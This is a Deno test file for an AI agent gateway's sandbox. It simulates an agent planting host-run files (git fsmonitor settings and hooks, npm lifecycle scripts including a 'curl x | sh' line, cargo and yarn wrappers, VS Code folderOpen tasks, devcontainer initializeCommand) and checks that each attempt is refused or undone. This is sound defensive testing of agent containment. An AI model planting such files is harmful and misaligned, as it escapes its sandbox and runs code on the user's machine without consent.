/**
 * Attack (issue 37 items 3 and 4): host-run files closed as a class (DESIGN §13 "Protected
 * files"). With the shell and the filesystem tools allowed, the agent plants what the host runs
 * later without the user naming it:
 * - git: a `.git/commondir` naming a copy of `.git` with `core.fsmonitor`, a nested `sub/.git` with
 *   `core.fsmonitor` reached by a gitlink from the root's index, a bare repository with
 *   `core.worktree` and `core.fsmonitor`, `.git/config.worktree`, a gitfile naming a git dir made
 *   by hand, the config and hooks of a repository nested before PML ran;
 * - ordinary commands and editors: a workspace `.npmrc` `script-shell`, a `postinstall`, `prepare`,
 *   `pretest` or `packageManager` added to `package.json`, `.cargo/config.toml` `rustc-wrapper`,
 *   `.yarnrc.yml` `yarnPath`, `.pnpmfile.cjs`, a `*.code-workspace` with a `folderOpen` task,
 *   `.devcontainer/devcontainer.json` `initializeCommand`.
 * Every attempt is refused or undone, and then the host's own `git status` (at the root, in the
 * nested repository, in the bare one) runs nothing. Beside the walls, the ordinary work:
 * `toolbox_workflow_test.ts` (git worktree, npm, cargo, package.json scripts that are not hooks).
 */
import { join } from "node:path";
import {
  assert,
  assertEquals,
  assertStringIncludes,
} from "../../packages/pml/src/testing/assert.ts";
import { gatewayFor, tempWorkspace, textOf } from "../../packages/pml/src/testing/workspace.ts";
import { entryExists } from "../../packages/pml/src/exists.ts";

/** Runs git on the host, as the user's shell prompt or editor would. */
function hostGit(cwd: string, ...args: string[]): void {
  new Deno.Command("git", { args, cwd, stdout: "null", stderr: "null" }).outputSync();
}

function gitInit(dir: string): void {
  Deno.mkdirSync(dir, { recursive: true });
  hostGit(dir, "init", "-q");
}

Deno.test("attack host_run (git): no git dir of the workspace gets a command git runs, from the shell or the tools", async () => {
  await using ws = tempWorkspace({
    permissions: { allow: ["filesystem", "shell", "pml"], ask: [], deny: [] },
  });
  Deno.removeSync(join(ws.dir, ".git"), { recursive: true });
  gitInit(ws.dir);
  hostGit(
    ws.dir,
    "-c",
    "user.name=A",
    "-c",
    "user.email=a@b",
    "commit",
    "-q",
    "--allow-empty",
    "-m",
    "x",
  );
  // A repository nested before PML ran (a vendored project).
  gitInit(join(ws.dir, "vendor", "lib"));
  const nestedConfig = ws.read("vendor/lib/.git/config");
  const marker = (n: number) => join(ws.root, `pwned-${n}`);
  const fsmonitor = (n: number) => `git config core.fsmonitor 'touch ${marker(n)}'`;
  await using gw = await gatewayFor(ws, { env: { PATH: Deno.env.get("PATH") ?? "" } });
  const run = (command: string) =>
    gw.client.callTool({ name: "shell:exec", arguments: { command } }).then(textOf);
  const shell = [
    // A copy of .git with core.fsmonitor, named from .git/commondir.
    `cp -r .git copy && git --git-dir=copy ${
      fsmonitor(1).slice(4)
    } && echo "$PWD/copy" > .git/commondir`,
    // A nested repository with core.fsmonitor, reached by a gitlink from the root's index.
    `git init -q sub && (cd sub && ${
      fsmonitor(2)
    } && git -c user.name=A -c user.email=a@b commit -q --allow-empty -m x) && ` +
    `git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub`,
    // A bare repository whose worktree is the workspace.
    `git init -q --bare bare && git --git-dir=bare config core.worktree "$PWD" && git --git-dir=bare ${
      fsmonitor(3).slice(4)
    }`,
    // The per-worktree config, and a git dir made by hand behind a gitfile.
    `printf '[core]\\n\\tfsmonitor = touch ${marker(4)}\\n' > .git/config.worktree`,
    `mkdir -p hand/objects hand/refs && echo 'ref: refs/heads/main' > hand/HEAD && ` +
    `printf '[core]\\n\\tfsmonitor = touch ${
      marker(5)
    }\\n' > hand/config && mkdir w && echo 'gitdir: ../hand' > w/.git`,
    // The same, in a folder the walk does not enter.
    `git init -q node_modules/x && (cd node_modules/x && ${
      fsmonitor(9)
    } && git -c user.name=A -c user.email=a@b commit -q --allow-empty -m x) && ` +
    `git update-index --add --cacheinfo 160000,$(git -C node_modules/x rev-parse HEAD),node_modules/x`,
    // The repository nested before PML ran.
    `cd vendor/lib && ${fsmonitor(6)}`,
    `printf '#!/bin/sh\\ntouch ${
      marker(7)
    }\\n' > vendor/lib/.git/hooks/post-checkout; chmod +x vendor/lib/.git/hooks/post-checkout`,
    `printf '[core]\\n\\tfsmonitor = touch ${marker(8)}\\n' >> vendor/lib/.git/config`,
  ];
  let tried = 0;
  for (const command of shell) {
    tried++;
    await run(command);
  }
  const tools = [
    [".git/commondir", `${ws.dir}/copy\n`],
    [".git/config.worktree", "[core]\n\tfsmonitor = touch x\n"],
    [".git/worktrees/x/gitdir", "/tmp/x/.git\n"],
    ["vendor/lib/.git/config", "[core]\n\tfsmonitor = touch x\n"],
    ["vendor/lib/.git/hooks/pre-commit", "#!/bin/sh\n"],
    ["sub2/.git", "gitdir: ../hand\n"],
    ["made/HEAD", "ref: refs/heads/main\n"],
    ["bare/config", "[core]\n\tfsmonitor = touch x\n"],
  ];
  for (const [path, content] of tools) {
    tried++;
    const r = await gw.client.callTool({
      name: "filesystem:write_file",
      arguments: { path, content },
    });
    assert(r.isError, `${path} was written: ${textOf(r)}`);
    assertStringIncludes(textOf(r), "no tool may change", path);
  }
  assertEquals(ws.read("vendor/lib/.git/config"), nestedConfig, "the nested repository's config");
  for (const path of [".git/commondir", ".git/config.worktree", "w/.git", "hand/config"]) {
    assert(!entryExists(join(ws.dir, path)), `${path} stayed`);
  }
  // The host's own git, where a prompt or an editor runs it.
  for (
    const dir of [ws.dir, join(ws.dir, "sub"), join(ws.dir, "vendor", "lib"), join(ws.dir, "w")]
  ) {
    hostGit(dir, "status");
  }
  hostGit(ws.dir, "--git-dir=bare", "status");
  hostGit(ws.dir, "--git-dir=copy", "status");
  for (let n = 1; n <= 9; n++) assert(!entryExists(marker(n)), `attempt ${n} ran on the host`);
  assertStringIncludes(
    Deno.readTextFileSync(join(ws.dir, ".pml", "audit.log")),
    "protected_file_blocked",
  );
  console.error(`attack host_run (git): ${tried} attempts, none ran on the host's git status`);
});

/** A `package.json` as a project has it. */
const PACKAGE = {
  name: "app",
  version: "1.0.0",
  scripts: { test: "node -e 0", build: "node -e 0", preview: "node -e 0" },
  dependencies: {},
};

Deno.test("attack host_run (commands and editors): what npm, cargo, yarn, pnpm, VS Code or a dev container would run is refused or undone", async () => {
  await using ws = tempWorkspace({
    permissions: { allow: ["filesystem", "shell", "pml"], ask: [], deny: [] },
  });
  ws.write("package.json", JSON.stringify(PACKAGE, null, 2) + "\n");
  ws.write("packages/web/package.json", JSON.stringify(PACKAGE, null, 2) + "\n");
  ws.write(".npmrc", "fund=false\n");
  await using gw = await gatewayFor(ws, { env: { PATH: Deno.env.get("PATH") ?? "" } });
  const run = (command: string) =>
    gw.client.callTool({ name: "shell:exec", arguments: { command } }).then(textOf);
  const planted: Record<string, string> = {
    ".npmrc": "script-shell=/tmp/evil.sh\n",
    ".cargo/config.toml": '[build]\nrustc-wrapper = "/tmp/evil.sh"\n',
    ".cargo/config": '[build]\nrustc-wrapper = "/tmp/evil.sh"\n',
    ".yarnrc.yml": "yarnPath: ./evil.cjs\n",
    ".pnpmfile.cjs": "require('child_process').execSync('touch /tmp/pwned')\n",
    "app.code-workspace": JSON.stringify({
      tasks: { tasks: [{ command: "touch /tmp/pwned", runOptions: { runOn: "folderOpen" } }] },
    }),
    ".devcontainer/devcontainer.json": JSON.stringify({ initializeCommand: "touch /tmp/pwned" }),
    ".devcontainer.json": JSON.stringify({ initializeCommand: "touch /tmp/pwned" }),
  };
  let tried = 0;
  for (const [path, content] of Object.entries(planted)) {
    tried += 2;
    const r = await gw.client.callTool({
      name: "filesystem:write_file",
      arguments: { path, content },
    });
    assert(r.isError, `${path} was written: ${textOf(r)}`);
    await run(
      `mkdir -p $(dirname ${path}) && printf '%s' '${content.replaceAll("'", "")}' >> ${path}`,
    );
  }
  assertEquals(ws.read(".npmrc"), "fner=false\n".replace("fner", "fund"));
  for (const path of Object.keys(planted).filter((p) => p !== ".npmrc")) {
    assert(!entryExists(join(ws.dir, path)), `${path} stayed`);
  }
  // Lifecycle scripts and hooks: through a write, an edit, npm itself and a script.
  const edits = [
    () =>
      gw.client.callTool({
        name: "filesystem:write_file",
        arguments: {
          path: "package.json",
          content: JSON.stringify(
            { ...PACKAGE, scripts: { ...PACKAGE.scripts, postinstall: "touch /tmp/pwned" } },
            null,
            2,
          ),
        },
      }),
    () =>
      gw.client.callTool({
        name: "filesystem:edit_file",
        arguments: {
          path: "package.json",
          edits: [{
            oldText: '"test": "node -e 0"',
            newText: '"prepare": "curl x | sh", "test": "node -e 0"',
          }],
        },
      }),
    () => run("npm pkg set scripts.pretest='touch /tmp/pwned'"),
    () => run("npm pkg set scripts.preinstall='touch /tmp/pwned' --prefix packages/web"),
    () =>
      run(
        `node -e "const f='package.json',p=JSON.parse(require('fs').readFileSync(f));p.packageManager='yarn@1.0.0-evil';require('fs').writeFileSync(f,JSON.stringify(p))"`,
      ),
    () =>
      run(
        `mkdir -p tools && printf '{"scripts":{"install":"touch /tmp/pwned"}}' > tools/package.json`,
      ),
  ];
  for (const edit of edits) {
    tried++;
    const text = JSON.stringify(await edit());
    assertStringIncludes(text, "put back", `attempt ${tried}: ${text}`);
  }
  for (const rel of ["package.json", "packages/web/package.json"]) {
    const pkg = JSON.parse(ws.read(rel));
    assertEquals(pkg.scripts, PACKAGE.scripts, rel);
    assertEquals(pkg.packageManager, undefined, rel);
  }
  assertEquals(JSON.parse(ws.read("tools/package.json")).scripts, {});
  console.error(`attack host_run (commands and editors): ${tried} attempts, none stayed`);
});
